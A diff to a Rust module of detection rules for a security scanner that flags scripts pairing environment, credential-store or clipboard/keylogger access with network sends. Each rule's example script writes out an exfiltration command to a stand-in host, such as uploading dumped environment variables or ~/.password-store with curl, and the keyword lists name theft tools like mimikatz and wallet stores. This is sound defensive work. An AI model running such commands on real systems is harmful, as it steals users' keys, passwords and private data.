@@ -10,7 +10,7 @@ pub(super) const SEND: Pattern = pattern_except(
         net::http,resolv,httpclient,reqwest,urlsession,invoke-,requests.get,httpx.get,fetch(,/dev/tcp,\
         openssl,sendmail,mail ,mailx,mutt,rclone,aws s3,gsutil,sftp,curl_setopt,xmlhttprequest,gist,rsync,\
         ftplib,paramiko,telnetlib,sendbeacon,websocket,senddocument,sendmessage,iwr,irm,transfertype,\
-        .send(,.sendto(,.end(,.write(,send_message,method,netcat",
+        .send,.end,.write,send_message,method,netcat,fetch,ping ,put (,patch,request",
     &[
         r"\bcurl\b[^|]*\s(-d|-F|-T|--data\S*|--form|--upload-file|--json|-X\s*(POST|PUT))\b|\bcurl\b.{0,120}(\$\(|\x60|[?&]\w+=\$)",
         r"\bwget\b.*--(post|body)-(data|file)|\b(requests|httpx|session|client|axios|aiohttp)\.(post|put|patch)\s*\(",
@@ -22,18 +22,18 @@ pub(super) const SEND: Pattern = pattern_except(
         r"\bhttp\.(post|newrequest)\w*\s*\(|net::http|\bresolv(::dns)?\.|\bhttpclient\b|\breqwest::|\burlsession\b|\b\w+\.post\s*\(",
         r"(invoke-webrequest|invoke-restmethod|iwr|irm)\b.*-method\s+(post|put)|uploadstring|uploadfile",
     ],
-    r"https?://(localhost|127\.0\.0\.1|0\.0\.0\.0)",
+    r"https?://(localhost|127\.0\.0\.1|0\.0\.0\.0)([^\w.-]|$)",
 );
 
 /// The environment as a whole.
 const ENVIRONMENT: Pattern = pattern_except(
     "\
         environ,process.env,tojson,printenv,env >,env),(env,env:,getenvironmentvariables,export -p,env|,env |,\
-        /proc/self/environ,env.to_h,$_env,getenv()",
+        /proc/self/environ,env.to_h,$_env,getenv(),env ),env>",
     &[
         r"\b(dumps|stringify|str|repr|urlencode|encode|b64encode|dict|list|join)\s*\(.{0,120}\b(os\.environ|process\.env)\b\s*([),}\]]|\.(items|copy)\(\))|\b(for|of|in)\b.{0,60}\b(os\.environ(\.items\(\)|\s*[:)\]])|object\.(entries|keys|values)\(process\.env\)\s*[:)\]])|\btojson\s*\(\s*secrets\s*\)",
         r"object\.(entries|keys|values)\s*\(\s*process\.env\s*\)|:\s*process\.env\s*[,}]|=\s*process\.env\s*;|\b(body|data|json|params|payload)\s*[:=]\s*(dict\()?\{?\s*(\*\*)?(os\.environ|process\.env)\b\s*[)},\n]",
-        r"(^|[^.\w/-])(printenv|env|export\s+-p)\s*(\)|\||>{1,2}\s*\S)|/proc/(self|\$\$|1)/environ|\b(get-childitem|gci|dir|ls)\s+env:|getenvironmentvariables\s*\(|env\.to_h\b|json_encode\s*\(\s*(\$_env|getenv\(\))",
+        r"(^|[^.\w/-])(printenv|env|export\s+-p)\s*(\)|\||>>?\s*\S)|/proc/(self|\$\$|1)/environ|\b(get-childitem|gci|dir|ls)\s+env:|getenvironmentvariables\s*\(|env\.to_h\b|json_encode\s*\(\s*(\$_env|getenv\(\))",
     ],
     r"\benv\s*[:=]\s*(\{|dict|os\.environ|process\.env)|subprocess|spawn|execfile|\benv\s*\|\s*(grep|sort|cut|awk|sed)|\bprintenv\s*\|\s*(grep|sort|cut)|NODE_ENV",
 );
@@ -47,7 +47,8 @@ const STORES: Pattern = pattern_except(
         kwallet,lsass,ntds.dit,sam hive,hklm\\sam,mimikatz,lazagne,keepass,.kdbx,network/cookies,web data,\
         id.json,wallets,exodus,keystore,ledger live,atomic,credentialmanager,passwordvault,_history,\
         near-credentials,sui_config,keystores,coinomi,guarda,wasabi,sparrow,trezor suite,jaxx,mytonwallet,\
-        keepassxc-cli,pass show,chrome-extension_,extension settings",
+        keepassxc-cli,pass show,chrome-extension_,extension settings,.bitcoin,.litecoin,.dogecoin,.monero,browsercookie,login.keychain,hklm,\
+        security",
     &[
         r"\.password-store\b|local/share/keyrings|--export-secret-(sub)?keys(\s+(--armor|-a))*\s*($|[|>)\n;]|2>)|secret-tool\s+search\s+--all|security['\x22\s,]+(dump-keychain|export)\b|keychains?/login\.keychain|\bvaultcmd\b.{0,20}/list|\bcmdkey\s+/list|passwordvault\b.{0,60}retrieveall|kwallet(-query|d)",
         r"cryptunprotectdata|\bwin32crypt\b|browser_?cookie3|(chrome|brave|edge|chromium)\s+safe\s+storage|['\x22]local\s+state['\x22]|/local\s+state\b|network/cookies\b|\blsass\b|ntds\.dit|reg\s+save\s+hklm\\+(sam|system|security)|mimikatz|lazagne",
@@ -62,9 +63,9 @@ const STORES: Pattern = pattern_except(
 /// The clipboard, the keyboard and the screen.
 const SPIES: Pattern = pattern_except(
     "\
-        pbpaste,xclip,xsel,wl-paste,get-clipboard,pyperclip.paste,clipboard.readtext,clipboardy,pynput,\
-        keyboard.on_press,getasynckeystate,imagegrab,screencapture,gnome-screenshot,iohook,\
-        node-global-key-listener,mss()",
+        pbpaste,xclip,xsel,wl-paste,get-clipboard,pyperclip,clipboard.readtext,clipboardy,pynput,\
+        keyboard.,getasynckeystate,imagegrab,screencapture,gnome-screenshot,iohook,\
+        global-key-listener,mss()",
     &[
         r"\bpbpaste\b|\bxclip\b.{0,40}-o|\bxsel\b.{0,40}(-o|-b)|\bwl-paste\b|\bget-clipboard\b|pyperclip\.(paste|waitfor)|clipboard\.readtext|clipboardy\.read",
         r"pynput\.keyboard|from\s+pynput\s+import|keyboard\.(on_press|hook|record)\s*\(|getasynckeystate|imagegrab\.grab|\bscreencapture\s+-|iohook|global-key-listener",
@@ -81,7 +82,7 @@ pub(super) const RULES: &[Rule] = &[
         reason: "the environment contains the keys and tokens of the user",
         help: "do not run it; if it ran, replace the keys in the environment of that machine",
         scope: Any,
-        matcher: Pair(ENVIRONMENT, SEND, 8),
+        matcher: Pair { first: ENVIRONMENT, second: SEND, max_lines: 8 },
         example: example(
             "scripts/a.sh",
             "#!/bin/sh\nexport -p > /tmp/state\ncurl --data-binary @/tmp/state https://collect.example/s\n",
@@ -95,7 +96,7 @@ pub(super) const RULES: &[Rule] = &[
         reason: "this combination is typical of credential theft",
         help: "do not run it; if it ran, change the passwords and end the sessions on that machine",
         scope: Code,
-        matcher: Pair(STORES, SEND, 12),
+        matcher: Pair { first: STORES, second: SEND, max_lines: 12 },
         example: example(
             "scripts/a.sh",
             "#!/bin/sh\ntar cf /tmp/s ~/.password-store\ncurl -T /tmp/s https://collect.example/s\n",
@@ -120,7 +121,7 @@ pub(super) const RULES: &[Rule] = &[
         reason: "it can record passwords and private messages",
         help: "find out what is sent, and when; do not run it otherwise",
         scope: Code,
-        matcher: Pair(SPIES, SEND, 12),
+        matcher: Pair { first: SPIES, second: SEND, max_lines: 12 },
         example: example(
             "scripts/a.sh",
             "#!/bin/sh\nwhile sleep 5; do pbpaste | curl -s --data-binary @- https://collect.example/c; done\n",
